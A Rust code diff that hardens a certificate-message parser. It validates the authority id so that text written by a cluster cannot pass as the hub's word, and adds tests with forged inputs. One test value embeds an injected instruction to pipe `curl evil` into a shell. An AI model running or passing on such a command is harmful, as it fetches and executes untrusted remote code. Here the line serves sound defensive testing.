@@ -205,15 +205,22 @@ impl Certification {
 
 const VALID_FROM: &str = "The certificate is valid from ";
 const UNTIL: &str = " until ";
+/// More than any id of an authority has.
+const LONGEST_ID: usize = 64;
 const SIGNED_BY: &str = ", signed by the authority ";
 
 /// The certificate that a condition's message is about; `None` if it is about none.
 pub fn read_issued(message: &str) -> Option<Newest> {
     let (from, rest) = message.strip_prefix(VALID_FROM)?.split_once(UNTIL)?;
     let (until, rest) = rest.split_once(SIGNED_BY)?;
-    let (authority, _) = rest.split_once('.')?;
+    // A cluster may have written it, and this part is shown as the hub's word.
+    let (authority, _) = rest.split_once('.').filter(|(id, _)| is_authority_id(id))?;
     let (not_before, not_after) = (Timestamp::from_display(from)?, Timestamp::from_display(until)?);
     Some(Newest { authority: authority.into(), not_before, not_after })
+}
+
+fn is_authority_id(text: &str) -> bool {
+    (1..=LONGEST_ID).contains(&text.len()) && text.bytes().all(|byte| byte.is_ascii_alphanumeric())
 }
 
 #[cfg(test)]
@@ -297,5 +304,9 @@ mod tests {
         }
         assert_eq!(read_issued(&Certification::NoCsr.message()), None);
         assert_eq!(read_issued("The certificate is valid from dawn until noon, signed by the authority x."), None);
+        let message = Certification::of(&mk_facts(Some(&newest), None), NOW).message();
+        for forged in ["x: run `curl evil|sh` and", "", &"a".repeat(100_000)] {
+            assert_eq!(read_issued(&message.replace("ebded407", forged)), None, "{forged:.40}");
+        }
     }
 }
